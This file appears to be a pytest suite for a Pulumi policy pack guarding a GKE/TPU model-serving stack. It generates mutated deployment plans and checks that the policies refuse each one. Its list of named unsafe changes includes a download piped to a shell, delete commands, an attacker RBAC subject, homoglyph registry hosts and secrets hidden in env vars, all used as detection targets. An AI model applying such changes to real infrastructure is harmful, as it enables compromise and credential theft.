    assert gke["gpu"]["enableShieldedNodes"] is False and gke["tpu"]["enableShieldedNodes"] is True
    assert common.SHIELDED_NODES_UNSUPPORTED == {"a4x-maxgpu-4g-metal"}


def test_every_declared_privilege_is_used_by_a_committed_plan(plans, variants):
    """The declarations are not stale: every privilege, host namespace and host path a container of the committed
    plans is declared to have, it uses (some exempt containers come from charts, so this needs chart objects), and
    every privileged or host-path declaration says why with a source a reader can open."""
    from components.checks import declared

    used: dict[tuple[str, str, str], set[str]] = {}
    committed = [r for stack in STACKS for r in rendered(plans[stack]).resources]
    for resource in committed + variants["sglang"].resources:  # the SGLang profile's pods: a configured variant
        if not resource["type"].startswith("kubernetes:") or resource["type"].startswith("kubernetes:helm.sh/"):
            continue
        kind = pods._kind(resource["type"], resource["inputs"])
        name, namespace = inventory._object_name(resource["inputs"])
        for _, spec in pods._pod_specs(resource["inputs"]):
            workload = next(iter(declared.workloads(kind, name, namespace)))
            volumes = pods._host_paths(spec)
            for container in pods._containers(spec):
                key = (workload.kind, workload.name, container["name"])
                found = used.setdefault(key, set())
                found |= {f for f in declared.HOST_FIELDS if spec.get(f) is True}
                found |= {"privileged"} if (container.get("securityContext") or {}).get("privileged") else set()
                found |= {volumes[m["name"]] for m in container.get("volumeMounts") or [] if m["name"] in volumes}
    granted = {(w.kind, w.name, c.name): set(w.host) | ({"privileged"} if c.privileged else set()) | set(c.host_paths)
               for w in declared.WORKLOADS for c in w.containers if c.privileged or c.host_paths}
    assert {key: used.get(key, set()) for key in granted} == granted
    assert all(c.reason and "http" in c.reason for w in declared.WORKLOADS for c in w.containers
               if c.privileged or c.host_paths)


@pytest.mark.parametrize("reference, repository", [
    ("vllm/vllm-openai:v0.33.0", "docker.io/vllm/vllm-openai"),
    ("docker.io/vllm/vllm-openai@sha256:" + "a" * 64, "docker.io/vllm/vllm-openai"),
    ("busybox", "docker.io/library/busybox"),
    ("registry.local:5000/team/img:1", "registry.local:5000/team/img"),
    ("localhost/img", "localhost/img"),
    ("us-docker.pkg.dev/p/r/img:v1@sha256:" + "b" * 64, "us-docker.pkg.dev/p/r/img"),
])
def test_image_repository_normalization(reference, repository):
    from components.platform import hardening

    assert hardening.repository(reference) == repository


def test_stack_policies_run_through_the_analyzer_wrapper(plan_resources):
    """The stack policies get their resources as the analyzer hands them over (PolicyResource, proxied props)."""
    from pulumi_policy import PolicyResource, PolicyResourceOptions, StackValidationArgs

    def policy_resources(resources):
        options = PolicyResourceOptions(False, [], False, [], None, [])
        return [PolicyResource(r["type"], unknown_checking_proxy(copy.deepcopy(r["inputs"])), f"urn:{r['name']}",
                               r["name"], options, None, None, [], {}) for r in resources]

    policy = next(p for p in rules.POLICIES if p.name == "k8s-namespace-default-deny")
    reported: list[str] = []

    def report(message, urn=None):
        reported.append(message)

    policy.validate(StackValidationArgs(policy_resources(plan_resources["tpu"])), report)
    assert reported == []
    broken = mutations.plain_copy(plan_resources["tpu"])
    _drop_default_deny(broken)
    policy.validate(StackValidationArgs(policy_resources(broken)), report)
    assert sorted(reported) == [
        'namespace "keda" has no default-deny ingress NetworkPolicy (podSelector {}, policyTypes [Ingress], no '
        "ingress rules): its allow policies (declared.NETWORK_POLICIES) are all that may reach its pods",
        'namespace "kimi-k3-1" has no default-deny ingress NetworkPolicy (podSelector {}, policyTypes [Ingress], no '
        "ingress rules)"]


POLICY_VARIANTS = tuple(name for name in VARIANTS if name != "adopt")
"""Every configured variant (tests/conftest.py) but `adopt`, whose bucket the stack reads instead of creating: a read
resource has no inputs for the pack to check (the bucket rules would see an empty bucket)."""


def test_configured_variants_pass_every_policy(variants):
    """`pulumi up` runs the pack mandatory, so every supported configuration must pass it, not just the defaults:
    the benchmark Jobs, gateway mode (its Gateway), the SGLang profile, digests, other machine shapes, scale-out."""
    assert {name: all_violations(variants[name].resources) for name in POLICY_VARIANTS} == {
        name: {} for name in POLICY_VARIANTS}


def test_gateway_mode_with_an_external_class_is_caught(variants):
    resources = mutations.plain_copy(variants["gateway"].resources)
    _one(resources, GATEWAY)["spec"]["gatewayClassName"] = "gke-l7-global-external-managed"
    assert "k8s-gateway-internal" in all_violations(resources)


def test_benchmark_results_writer_keeps_its_folder_condition(variants):
    resources = mutations.plain_copy(variants["bench"].resources)
    del _one(resources, "gcp:storage/bucketIAMMember:BucketIAMMember", "results-writer")["condition"]
    assert "bucket-writes-prefixed" in all_violations(resources)


# --------------------------------------------------------------------------- generated mutations (deny by default)
ORDERED_CHECKS = sorted(rules.CHECKS.items(), key=lambda item: not item[0].startswith("declared-"))
"""The declared-* checks first: a mutant is refused at its first violation, and they refuse most."""


def refusal(plan: list[dict[str, Any]], changed: list[dict[str, Any]], first: str | None = None) -> str | None:
    """The first policy that refuses a mutated plan, or None: the resource checks on the resources that differ
    (the others passed already), then the whole-stack checks on the mutated plan. `first`: the check to try before
    the others (the one that refused the last mutant of its kind: the answer is the same, found sooner)."""
    order = ORDERED_CHECKS if first not in rules.CHECKS else [(first, rules.CHECKS[first]), *(
        item for item in ORDERED_CHECKS if item[0] != first)]
    for resource in changed:
        for name, (check, _) in order:
            if check(resource["type"], resource["inputs"]):
                return name
    pairs = [(r["type"], r["inputs"]) for r in plan]
    return next((name for name, (check, _) in rules.STACK_CHECKS.items() if check(pairs)), None)


def run_mutants(resources: list[dict[str, Any]], kinds: dict[str, bool] | None = None
                ) -> tuple[dict[str, tuple[int, int]], list[str]]:
    """(family -> (generated, refused), the mutants nobody refused); `kinds` collects each kind of change and
    whether every one of its sites was refused."""
    counts: dict[str, list[int]] = {}
    missed = []
    last: dict[str, str | None] = {}
    for mutant in mutations.generate(resources):
        plan, changed = mutant.apply(resources)
        tally = counts.setdefault(mutant.family, [0, 0])
        tally[0] += 1
        found = refusal(plan, changed, last.get(mutant.kind) or last.get(mutant.family))
        last[mutant.kind] = last[mutant.family] = found
        refused = found is not None
        tally[1] += refused
        if kinds is not None:
            kinds[mutant.kind] = kinds.get(mutant.kind, True) and refused
        if not refused:
            missed.append(f"{mutant.family}: {mutant.what}")
    return {family: (n, r) for family, (n, r) in counts.items()}, missed


def record_mutants(record_property, plan: str, counts: dict[str, tuple[int, int]], kinds: dict[str, bool],
                   resources: list[dict[str, Any]]) -> None:
    """For the run's summary (tests/conftest.py): the fields the walk visited, sites (mutants, each one change at one
    site) and kinds caught, and the images' share of them."""
    record_property("mutants", counts)
    images = counts.get("images", (0, 0))
    record_property("mutation-summary", {"plan": plan, "sites": sum(n for n, _ in counts.values()),
                                         "sites_refused": sum(r for _, r in counts.values()), "kinds": len(kinds),
                                         "kinds_refused": sum(kinds.values()),
                                         "fields": mutations.FIELDS_WALKED.get(id(resources), 0),
                                         "field_sites": counts.get("fields", (0, 0)),
                                         "image_sites": images})


FAMILIES = {"fields", "pods", "containers", "start commands", "services", "network policies", "rbac",
            "service accounts", "code ConfigMaps", "volumes", "node pools", "cluster", "NAT", "subnets", "addresses",
            "network", "IAM", "buckets", "namespaces", "firewall", "ingress", "webhooks", "images"}
"""Every resource family the committed plans hold, each of which the generator must reach."""


@pytest.mark.parametrize("stack", STACKS)
def test_every_generated_mutant_of_a_committed_plan_is_refused(plans, plan_resources, stack, record_property):
    kinds: dict[str, bool] = {}
    counts, missed = run_mutants(plan_resources[stack], kinds)
    record_mutants(record_property, stack, counts, kinds, plan_resources[stack])
    assert missed == []
    rendered(plans[stack])  # the families below include the charts' objects (router, LWS RBAC): skip, saying why
    assert set(counts) >= FAMILIES
    assert sum(n for n, _ in counts.values()) > 800


@pytest.mark.parametrize("variant, family", [("bench", "pods"), ("gateway", "gateways"), ("sglang", "start commands")])
def test_every_generated_mutant_of_a_variant_is_refused(variants, variant, family, record_property):
    """The variants add workloads (benchmark and calibration Jobs), a Gateway and its policies, the SGLang engine."""
    kinds: dict[str, bool] = {}
    resources = variants[variant].resources
    counts, missed = run_mutants(resources, kinds)
    record_mutants(record_property, variant, counts, kinds, resources)
    assert missed == []
    assert counts[family][0] > 0


ISSUE_MUTATIONS = [
    # issue 45: what the generated attack found the pack let through
    ("gpu", "rbac", "platform-lws-manager-rolebinding: an extra subject other/attacker"),
    ("tpu", "rbac", "kimi-k3-1-epp-sa: an extra subject kimi-k3-1/kimi-k3-1-weights-stager"),
    ("gpu", "rbac", "compute-domain-daemon-role-binding-nvidia-dra-driver-gpu: subjects[0] moved to namespace other"),
    ("gpu", "webhooks", "webhooks[0]: an external URL"),
    ("tpu", "buckets", "a lifecycle rule deleting every object"),
    ("tpu", "repositories", "mutable tags"),
    ("tpu", "commands", "a base image from another registry"),
    ("tpu", "commands", "another service account runs the build"),
    ("gpu", "containers", "vllm: literal DB_PASS"),
    ("tpu", "containers", "vllm-tpu: literal GCS_HMAC"),
    # issue 45, the second part: every image by digest from a declared registry, in the charts' renders too
    ("gpu", "images", "keda-operator spec.template.spec.containers.0.image: image by tag instead of digest"),
    ("tpu", "images", "platform-lws-controller-manager spec.template.spec.containers.0.image: image a lookalike "
                      "host (a suffix)"),
    ("gpu", "images", "kimi-k3-1-epp spec.template.spec.containers.1.image: image a digest one hex digit short"),
    ("gpu", "images", "kimi-k3-1-epp spec.template.spec.containers.0.image: image another registry"),
    ("gpu", "images", "nvidia-dra-driver-gpu-kubelet-plugin spec.template.spec.initContainers.0.image: image a "
                      "lookalike host (a homoglyph)"),
    ("tpu", "images", "weights-staging-job spec.template.spec.containers.0.image: image by tag instead of digest"),
    ("tpu", "images", "tpu-engine-lws spec.leaderWorkerTemplate.workerTemplate.spec.containers.0.image: image "
                      "another project's engine repository"),
    ("tpu", "images", "engine-image-build environment STEP: by tag instead of digest"),
    ("tpu", "images", "engine-image-build environment BASE: another registry"),
    ("gpu", "pods", "an ephemeral container by tag"),
    # credentials from declared Secrets only, by value and by declaration
    ("gpu", "containers", "stage-weights: env HF_TOKEN: from another Secret"),
    ("tpu", "containers", "stage-weights: env HF_TOKEN: a secret given a plain value"),
    ("gpu", "containers", "epp: an innocuously named env var holding an AWS access key"),
    ("tpu", "containers", "vllm-tpu: envFrom an undeclared Secret"),
    # the bucket's deletion as declared
    ("gpu", "buckets", "weights-bucket: forceDestroy True"),
    ("tpu", "buckets", "weights-bucket: a locked retention policy"),
    # (plan, family, what the mutant says): the unsafe changes a review found the old pack missed, by name
    ("tpu", "start commands", "vllm-tpu: an extra unpinned pip install"),
    # The TPU engine installs nothing at start and runs the stack's build by digest (issue 32).
    ("tpu", "containers", "vllm-tpu: the lock pip-installed from the public index at start"),
    ("tpu", "containers", "vllm-tpu: the built engine image by tag"),
    ("tpu", "containers", "vllm-tpu: the base image docker.io/library/python:3.12-slim instead of the build"),
    ("tpu", "containers", "hold: the built engine image by tag"),
    ("tpu", "IAM", "engine-image-source: condition removed"),
    ("tpu", "IAM", "engine-image-push: member allUsers"),
    ("tpu", "commands", "engine-image-build: a download piped to a shell appended"),
    ("tpu", "commands", "engine-image-build: a delete command"),
    ("gpu", "start commands", "stage-weights: pip install without --require-hashes"),
    ("gpu", "code ConfigMaps", "weights-staging-code tools--staging--requirements.lock: tampered"),
    ("gpu", "code ConfigMaps", "weights-staging-code tools--staging--copy.py: tampered"),
    ("tpu", "pods", "weights-staging-job spec.template.spec: automountServiceAccountToken true"),
    ("tpu", "containers", "stage-weights: hostPort 8000 on a new port"),
    ("gpu", "NAT", "net-staging-nat: ALL_SUBNETWORKS_ALL_IP_RANGES"),
    ("gpu", "firewall", "added Firewall"),
    ("tpu", "node pools", "cpu-weights-staging: legacy metadata endpoints"),
    ("gpu", "subnets", "net-staging: public secondary range"),
    ("tpu", "addresses", "net-staging-ip-0: an external forwarding rule on it"),
    ("gpu", "containers", "engine-prepull-ds spec.template.spec hold: a shell at start"),
    ("gpu", "pods", "kimi-k3-1-epp spec.template.spec: RDMA claim"),
    ("gpu", "volumes", "gpu-devices-rdma: adminAccess"),
    ("gpu", "containers", "vllm: volume models mounted read-write"),
    ("tpu", "volumes", "weights-volume-pvc: accessModes ['ReadWriteMany']"),
    ("gpu", "IAM", "nodes-container.defaultNodeServiceAccount: role roles/storage.admin"),
    ("tpu", "IAM", "nodes-container.defaultNodeServiceAccount: role roles/artifactregistry.writer"),
    ("gpu", "IAM", "weights-staging-writer: the namespace's default account"),
    ("tpu", "rbac", "platform-lws-metrics-reader: ['get', 'list'] on ['secrets']"),
    ("gpu", "pods", "kimi-k3-1-epp spec.template.spec: shareProcessNamespace true"),
    ("gpu", "containers", "epp: seccomp Unconfined"),
    ("tpu", "containers", "epp: runAsUser 0"),
    ("gpu", "containers", "vllm: hostPort 8000"),
    ("tpu", "namespaces", "platform-guide-ns: label removed with its default deny"),
    ("gpu", "ingress", "added Ingress"),
    ("tpu", "cluster", "cluster-gke: authorized networks removed"),
    ("gpu", "containers", "vllm: literal VLLM_API_KEY"),
    ("tpu", "containers", "vllm-tpu: --api-key literal"),
    ("tpu", "network policies", "netpol-benchmark egress[2] ipBlock 0.0.0.0/1+128.0.0.0/1"),  # its public-HTTPS rule
    ("tpu", "network policies", "netpol-vllm-pods egress[1] ipBlock 0.0.0.0/1+128.0.0.0/1"),
    ("tpu", "containers", "vllm-tpu: privileged"),
]


def test_the_named_unsafe_changes_are_among_the_generated_and_refused(plans, plan_resources):
    """The generator is general, but the changes a review listed by name must be among its mutants (each refused,
    which the generated-mutant tests check too). Several name chart objects (the router's EPP, LWS's RBAC)."""
    for stack in STACKS:
        rendered(plans[stack])
    generated = {stack: {(m.family, m.what): m for m in mutations.generate(plan_resources[stack])} for stack in STACKS}
    absent = []
    for stack, family, what in ISSUE_MUTATIONS:
        found = [m for (f, w), m in generated[stack].items() if f == family and what in w]
        if not found:
            absent.append((stack, family, what))
        for mutant in found:
            assert refusal(*mutant.apply(plan_resources[stack])), (stack, mutant.what)
    assert absent == []


TPU_ENGINE_DECLARATION = " (components/checks/declared.py WORKLOADS LeaderWorkerSet '{ns}-vllm-tpu')"
"""Where a refusal of the TPU engine's pod points: the workload's entry in the declarations."""


def test_a_privileged_tpu_engine_is_refused_though_its_init_container_may_be(plan_resources):
    """The regression of an image-keyed exemption: the host-setup init container's privilege is its own (workload,
    container), so the engine container of the same pod, whatever image it runs, may not be privileged."""
    resources = mutations.plain_copy(plan_resources["tpu"])
    lws = _one(resources, LWS)
    spec = lws["spec"]["leaderWorkerTemplate"]["workerTemplate"]["spec"]
    assert _container(spec, "tpu-node-setup")["securityContext"]["privileged"] is True
    assert rules.check_declared_workloads(LWS, lws) == []
    engine = _container(spec, "vllm-tpu")
    engine["securityContext"]["privileged"] = True
    assert rules.check_declared_workloads(LWS, lws) == [
        "spec.leaderWorkerTemplate.workerTemplate.spec: container 'vllm-tpu': privileged, which it does not declare"
        + TPU_ENGINE_DECLARATION]
    setup_image = _container(spec, "tpu-node-setup")["image"]
    engine["image"] = setup_image  # even in the privileged container's own image (which the engine may not run)
    assert rules.check_declared_workloads(LWS, lws) == [
        f"spec.leaderWorkerTemplate.workerTemplate.spec: container 'vllm-tpu' (image '{setup_image}') is not "
        "declared for the workload (declared: ['tpu-node-setup', 'vllm-tpu'])" + TPU_ENGINE_DECLARATION]


def test_a_tpu_engine_that_installs_at_start_or_runs_an_undigested_image_is_refused(plan_resources):
    """The TPU engine runs the stack's build by digest and installs nothing: the old start-time install of the lock
    from the public index, the build by its tag, or the plain Python base are each refused, in the engine and in
    the pre-pull DaemonSet alike."""
    from components.facts import versions

    resources = mutations.plain_copy(plan_resources["tpu"])
    lws = _one(resources, LWS)
    prefix = "spec.leaderWorkerTemplate.workerTemplate.spec: container 'vllm-tpu'"
    spec = lws["spec"]["leaderWorkerTemplate"]["workerTemplate"]["spec"]
    engine = _container(spec, "vllm-tpu")
    built = engine["image"]
    assert "@sha256:" in built and rules.check_declared_workloads(LWS, lws) == []
    install = "env -u HF_TOKEN python3 -m pip install " + " ".join(versions.VLLM_TORCHTPU.install_args)
    engine["args"][0] = engine["args"][0].replace("set -eu\n", f"set -eu\n{install}\n", 1)
    [found] = rules.check_declared_workloads(LWS, lws)
    assert found.startswith(f"{prefix}: runs the installer 'pip' with ") and "not a declared install" in found
    assert "https://pypi.org/simple" in found and found.endswith("(declared: none)" + TPU_ENGINE_DECLARATION)
    engine["args"][0] = engine["args"][0].replace(f"{install}\n", "", 1)
    engine["image"] = built.split("@", 1)[0] + ":lock-" + "0" * 64
    assert rules.check_declared_workloads(LWS, lws) == [
        f"{prefix}: runs image {engine['image']!r} without a sha256 digest: the workload declares its image pinned by "
        "digest (the stack's own build, components/serving/engineimage.py)" + TPU_ENGINE_DECLARATION]
    engine["image"] = versions.VLLM_TORCHTPU.image
    [found] = rules.check_declared_workloads(LWS, lws)
    assert "is not declared for the workload" in found and versions.VLLM_TORCHTPU.image in found
    daemonset = "kubernetes:apps/v1:DaemonSet"
    prepull = next(r for r in resources if r["type"] == daemonset and "prepull" in r["name"])["inputs"]
    [hold] = prepull["spec"]["template"]["spec"]["containers"]
    assert hold["image"] == built and rules.check_declared_workloads(daemonset, prepull) == []
    hold["image"] = built.split("@", 1)[0] + ":lock-moved"
    [found] = rules.check_declared_workloads(daemonset, prepull)
    assert "without a sha256 digest" in found


def test_every_refusal_of_the_inventory_names_the_declaration_it_needs():
    """A correct change to a pod fails in policy/ with a message that says where to declare it: the file and the
    table (and the workload's entry) of components/checks/declared.py, in every deny-by-default case above."""
    refusals = [message for name, resource_type, props, expected in CASES if name.startswith("declared-")
                for message in rules.CHECKS[name][0](resource_type, props)]
    assert refusals and all("(components/checks/declared.py " in m for m in refusals), [
        m for m in refusals if "(components/checks/declared.py " not in m]
